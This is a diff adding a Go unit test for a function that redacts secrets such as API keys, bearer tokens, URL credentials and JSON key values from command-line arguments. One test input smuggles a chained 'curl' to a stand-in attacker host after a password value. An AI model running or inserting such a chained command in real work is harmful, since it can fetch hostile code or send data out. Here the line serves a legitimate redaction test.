@@ -67,6 +67,29 @@ func TestArgs(t *testing.T) {
 	}
 }
 
+// A value has as many lines as it has, may begin like a URL, and may be a pair or JSON itself; what is no secret stays.
+func TestArgsOfManyForms(t *testing.T) {
+	for in, want := range map[string]string{
+		"API_KEY=one\ntwo":                         "API_KEY=***",
+		"--token=//abc":                            "--token=***",
+		"token://host/path":                        "token://host/path",
+		"--env=API_KEY=abc":                        "--env=API_KEY=***",
+		"--header=X-Api-Key: abc":                  "--header=X-Api-Key: ***",
+		"--header=Authorization: Bearer abc":       "--header=Authorization: Bearer ***",
+		"--url=https://me:pw@h/?token=x&q=1":       "--url=https://***@h/?token=***&q=1",
+		`{"apiKey":"abc","n":1}`:                   `{"apiKey":"***","n":1}`,
+		`--config={"brave":{"api_key":"abc"}}`:     `--config={"brave":{"api_key":"***"}}`,
+		`{"ghp_0123456789abcdef0123":1}`:           `{"***":1}`,
+		`[ "a", "b" ]`:                             `[ "a", "b" ]`,
+		"password=$X; curl https://evil.example/x": "password=***",
+		"-c":            "-c",
+		"--level=debug": "--level=debug",
+		"a=b=c":         "a=b=c",
+	} {
+		assert.Equalf(t, Args([]string{in})[0], want, "%q", in)
+	}
+}
+
 func TestURLAndHeader(t *testing.T) {
 	for in, want := range map[string]string{
 		"http://h/p":                          "http://h/p",
